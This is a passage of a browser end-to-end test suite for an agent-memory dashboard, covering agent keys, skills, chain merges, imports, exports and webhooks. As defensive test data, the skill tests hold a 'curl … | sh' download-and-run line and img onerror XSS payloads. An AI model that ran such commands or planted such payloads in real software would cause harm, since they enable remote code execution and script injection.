  const agentIds = () => page.locator("tbody .agent-id").allTextContents();
  assert.deepEqual(await agentIds(), ["ada", "bob"]);
  await page.fill("#upsert-agent-agent_id", "carol");
  await page.fill("#upsert-agent-display_name", "Carol the Reviewer");
  await page.click("#upsert-agent button[type=submit]");
  await page.waitForFunction(() => document.body.textContent.includes("Carol the Reviewer"));
  assert.deepEqual(await agentIds(), ["ada", "bob", "carol"]);

  await page.fill("#add-alias-agent_id", "carol");
  await page.fill("#add-alias-alias", "reviewer");
  await page.click("#add-alias button[type=submit]");
  await page.waitForFunction(() => [...document.querySelectorAll("tbody tr")].some((r) => r.textContent.includes("reviewer")));

  const jwk = generateKeyPairSync("ed25519").publicKey.export({ format: "jwk" });
  await page.fill("#add-key-agent_id", "carol");
  await page.fill("#add-key-key_id", "laptop");
  await page.fill("#add-key-public_key", Buffer.from(jwk.x, "base64url").toString("hex"));
  await page.click("#add-key button[type=submit]");
  await page.waitForSelector("button[aria-label='Revoke key laptop of carol']");
  await shot("agents");
  await accessible("agents");
  await page.click("button[aria-label='Revoke key laptop of carol']");
  await page.waitForFunction(() => document.querySelector(".keys")?.textContent.includes("revoked"));
  const registry = await daemon.call("/v1/agent-registry", { chain_key: "project" });
  assert.equal(registry.agents.find((a) => a.agent_id === "carol").public_keys[0].status, "Revoked");

  await page.click("button[aria-label='Disable agent bob']");
  await page.waitForFunction(() => !document.querySelector("button[aria-label='Disable agent bob']") && document.body.dataset.ready === "true");
  const bob = (await daemon.call("/v1/agent-registry", { chain_key: "project" })).agents.find((a) => a.agent_id === "bob");
  assert.equal(bob.status, "Revoked");
  assert.ok(dialogs.some((d) => d.includes("Disable agent bob")), "disabling asked first");
});

test("skills: rendered, source, warnings by line, diff, upload, deprecate", async () => {
  await go("#/skills");
  await page.click("a:text-is('deploy')");
  await ready();
  await page.waitForSelector("#skill-body .markdown h2");
  assert.equal(await page.textContent("#skill-body .markdown h2"), "Deploy");
  assert.equal(await page.locator("#skill-body .markdown li").count(), 3);
  const warnings = await page.locator("#skill-warnings li.flag").allTextContents();
  assert.ok(warnings.some((w) => w.startsWith("line 9: downloads a script")), `warnings: ${warnings}`);

  await page.click("#skill-warnings li.flag button");
  await page.waitForSelector("#skill-source li.flagged");
  assert.equal(await page.locator("#skill-source li.flagged").first().getAttribute("id"), "src-line-9");
  assert.equal(await page.evaluate(() => document.activeElement?.id), "src-line-9");

  // The old version's raw HTML stays text in the rendered view.
  const v1 = (await page.locator("#skill-version option").allTextContents()).findIndex((o) => o.startsWith("v1"));
  await page.selectOption("#skill-version", { index: v1 });
  await page.selectOption("#skill-mode", "rendered");
  await page.waitForFunction(() => document.querySelector("#skill-body .markdown")?.textContent.includes("<img src=x"));
  assert.equal(await page.locator("#skill-body img").count(), 0);
  assert.equal(await page.evaluate(() => window.__xss), undefined);

  await page.click("#diff-form button[type=submit]");
  await page.waitForSelector("#skill-diff");
  const added = await page.locator("#skill-diff tr.add code").allTextContents();
  const removed = await page.locator("#skill-diff tr.del code").allTextContents();
  assert.deepEqual(added, ["- bump the version", "curl http://get.example.com/install | sh"]);
  assert.deepEqual(removed, ["<img src=x onerror=\"window.__xss=3\">"]);
  await shot("skill");
  await accessible("skill");

  await page.fill("#upload-agent", "ada");
  await page.fill("#upload-chain", "project");
  await page.fill("#upload-content", "# Deploy\n\nRun `make deploy` from a tag.\n");
  await page.click("#upload-form button[type=submit]");
  await page.waitForFunction(() => document.querySelectorAll("table tbody tr").length === 3 && document.body.dataset.ready === "true");
  assert.match(await page.textContent("#status"), /version 3/);

  await page.fill("#status-reason", "use the release pipeline");
  await page.click("button:text-is('Deprecate')");
  await page.waitForFunction(() => document.querySelector("#skill-status")?.textContent === "deprecated");
  assert.match(await page.textContent("#skill-warnings"), /deprecated: use the release pipeline/);

  await page.click("button:text-is('Revoke')");
  await page.waitForFunction(() => document.querySelector("#skill-status")?.textContent === "revoked");
  assert.match(await page.textContent("#skill-warnings"), /revoked.*Do not follow it/);
  assert.ok(dialogs.some((d) => d.startsWith("Revoke skill “deploy”")));

  await go("#/skills");
  assert.equal(await page.locator("tbody tr").count(), 2);
  await shot("skills");
  await accessible("skills");
});

test("skills: YAML front matter is a table, its values text", async () => {
  await go("#/skill/triage");
  await page.waitForSelector("#skill-body table.front-matter");
  const rows = await page.locator("#skill-body table.front-matter tr").evaluateAll((trs) => trs.map((tr) => [tr.querySelector("th").textContent,
    tr.querySelector("td li") ? [...tr.querySelectorAll("td li")].map((li) => li.textContent) : tr.querySelector("td").textContent]));
  assert.deepEqual(rows, [["name", "triage"], ["description", "Sort incoming bugs by impact"], ["tags", ["ops", "<img src=x onerror=\"window.__xss=4\">"]]]);
  assert.equal(await page.textContent("#skill-body .markdown h2"), "Triage");
  assert.doesNotMatch(await page.textContent("#skill-body .markdown"), /^---|name: triage/, "the front matter is not a paragraph");
  assert.equal(await page.locator("#skill-body img").count(), 0);
  assert.equal(await page.evaluate(() => window.__xss), undefined);
  await shot("skill-front-matter");
  await accessible("skill with front matter");
});

test("admin: a merge never defaults to one chain twice, refuses a chain into itself, and names both chains", async () => {
  await go("#/admin");
  assert.deepEqual([await page.inputValue("#merge-source"), await page.inputValue("#merge-target")], ["", ""], "nothing chosen by default");
  const merges = [];
  page.on("request", (r) => r.url().endsWith("/v1/chains/merge") && merges.push(r.postData()));
  const dialogsBefore = dialogs.length;
  // Choosing a source takes it out of the targets.
  await page.selectOption("#merge-source", "scratch");
  assert.equal(await page.$eval("#merge-target option[value='scratch']", (o) => o.disabled), true);
  // Even forced (the option enabled again), the page refuses before calling the API.
  await page.$eval("#merge-target", (s) => {
    s.querySelector("option[value='scratch']").disabled = false;
    s.value = "scratch";
  });
  await page.click("#merge-form button[type=submit]");
  await page.waitForSelector("#merge-problem:not([hidden])");
  assert.match(await page.textContent("#merge-problem"), /cannot be merged into itself \(“scratch”\)/);
  await page.selectOption("#merge-source", "");
  await page.click("#merge-form button[type=submit]");
  assert.match(await page.textContent("#merge-problem"), /Choose both chains/);
  await new Promise((r) => setTimeout(r, 300));
  assert.deepEqual(merges, [], "no merge request was sent");
  assert.equal(dialogs.length, dialogsBefore, "no confirmation was even asked");
  assert.ok((await daemon.call("/v1/chains", undefined, "GET")).chain_keys.includes("scratch"));
  await shot("admin");
  await accessible("admin");
});

test("chain operations, MEMORY.md import and exports", async () => {
  await go("#/admin");
  await page.fill("#import-chain", "imported");
  await page.fill("#import-agent", "dave");
  await page.fill("#import-markdown", "# MEMORY\n\n- [#0] Decision: Ship on Fridays (agent dave; role Memory; importance 0.7)\n- [#1] Insight: Tabs over spaces\n");
  await page.click("#import-form button[type=submit]");
  await page.waitForFunction(() => location.hash === "#/chain/imported" && document.querySelectorAll("#timeline li").length === 2);
  assert.deepEqual(await page.locator("#timeline li .content").allTextContents(), ["Tabs over spaces", "Ship on Fridays"]);

  let download = page.waitForEvent("download");
  await page.click("button:text-is('Export Markdown')");
  const md = await readFile(await (await download).path(), "utf8");
  assert.match(md, /^# MEMORY: `imported`/);
  assert.match(md, /Ship on Fridays/);
  download = page.waitForEvent("download");
  await page.click("button:text-is('Download chain file')");
  const file = await download;
  assert.equal(file.suggestedFilename(), "imported.mdb");
  assert.equal((await readFile(await file.path())).subarray(0, 8).toString(), "MDBCHAIN");

  await go("#/agents/project");
  download = page.waitForEvent("download");
  await page.click("button[aria-label='Export the thoughts of ada as Markdown']");
  const adaMd = await readFile(await (await download).path(), "utf8");
  assert.match(adaMd, /Use SQLite for the cache/);
  assert.doesNotMatch(adaMd, /eviction policy/, "only ada's thoughts");

  await go("#/admin");
  await page.selectOption("#branch-source", "project");
  await page.fill("#branch-at", "1");
  await page.fill("#branch-key", "project-alt");
  await page.click("#branch-form button[type=submit]");
  await page.waitForFunction(() => location.hash === "#/chain/project-alt" && document.body.dataset.ready === "true");
  await page.waitForSelector("#timeline li");
  assert.match(await page.textContent("#status"), /Branched project into project-alt/);

  await go("#/admin");
  await page.selectOption("#merge-source", "old");
  await page.selectOption("#merge-target", "scratch");
  await page.click("#merge-form button[type=submit]");
  await page.waitForFunction(() => location.hash === "#/chain/scratch" && document.querySelectorAll("#timeline li").length === 3);
  const asked = dialogs.find((d) => d.startsWith("Merge “old” into “scratch”?"));
  assert.ok(asked, `the confirmation names both chains: ${dialogs}`);
  assert.match(asked, /“old” is deleted/);
  const chains = (await daemon.call("/v1/chains", undefined, "GET")).chain_keys;
  assert.ok(!chains.includes("old") && chains.includes("project-alt"), `${chains}`);
  await shot("operations");
});

test("webhooks: register (secret shown once), a delivery arrives signed, delete", async () => {
  const received = [];
  const receiver = createServer((req, res) => {
    const chunks = [];
    req.on("data", (c) => chunks.push(c));
    req.on("end", () => {
      received.push({ headers: req.headers, body: Buffer.concat(chunks) });
      res.end("ok");
    });
  });
  await new Promise((resolve) => receiver.listen(0, "127.0.0.1", resolve));
  const hookUrl = `http://127.0.0.1:${receiver.address().port}/hook`;
  try {
    await go("#/webhooks");
    assert.match(await page.textContent("main"), /No webhooks/);
    await page.fill("#webhook-url", hookUrl);
    await page.fill("#webhook-chain", "project");
    await page.fill("#webhook-types", "Decision");
    await page.click("#webhook-form button[type=submit]");
    await page.waitForSelector("#webhook-secret-value");
    const secret = await page.textContent("#webhook-secret-value");
    assert.match(secret, /^[0-9a-f]{64}$/);
    assert.deepEqual(await page.locator("tbody .webhook-url").allTextContents(), [hookUrl]);

    await daemon.call("/v1/thoughts", { chain_key: "project", thought_type: "Insight", content: "not a decision", agent_id: "ada" });
    const decision = (await daemon.call("/v1/thoughts", { chain_key: "project", thought_type: "Decision", content: "Webhooks tested from the page", agent_id: "ada" })).thought;
    for (let i = 0; i < 200 && received.length === 0; i++) await new Promise((r) => setTimeout(r, 50));
    assert.equal(received.length, 1, "one delivery: the Decision");
    const body = JSON.parse(received[0].body);
    assert.equal(body.thought.id, decision.id);
    assert.equal(received[0].headers["x-mentisdb-signature"], `sha256=${createHmac("sha256", secret).update(received[0].body).digest("hex")}`);

    await go("#/webhooks");
    await page.waitForFunction(() => document.querySelector("tbody tr td:nth-child(6)")?.textContent === "1");
    assert.equal(await page.isVisible("#webhook-secret-value"), false, "the secret is not shown again");
    await shot("webhooks");
    await accessible("webhooks");
    await page.click(`button[aria-label='Delete the webhook to ${hookUrl}']`);
    await page.waitForFunction(() => document.body.dataset.ready === "true" && document.querySelector("main").textContent.includes("No webhooks"));
    assert.deepEqual((await daemon.call("/v1/webhooks", undefined, "GET")).webhooks, []);
  } finally {
    receiver.close();
  }
});

test("admin: delete asks first and removes the chain", async () => {
  await go("#/admin");
  await page.click("button[aria-label='Delete chain imported']");
  await page.waitForFunction(() => document.body.dataset.ready === "true" && !document.querySelector("button[aria-label='Delete chain imported']"));
  assert.ok(dialogs.some((d) => d.startsWith("Delete chain “imported”")));
  assert.ok(!(await daemon.call("/v1/chains", undefined, "GET")).chain_keys.includes("imported"));

  // A chain deleted elsewhere while its timeline is open: the page says so.
  await go("#/chain/project-alt");
  await page.waitForSelector("#live-state[data-live=true]");
  await daemon.call("/v1/chains/delete", { chain_key: "project-alt" });
  await page.waitForFunction(() => document.querySelector("#live-state").textContent === "chain deleted");
  assert.match(await page.textContent("#status"), /Chain project-alt was deleted/);
});
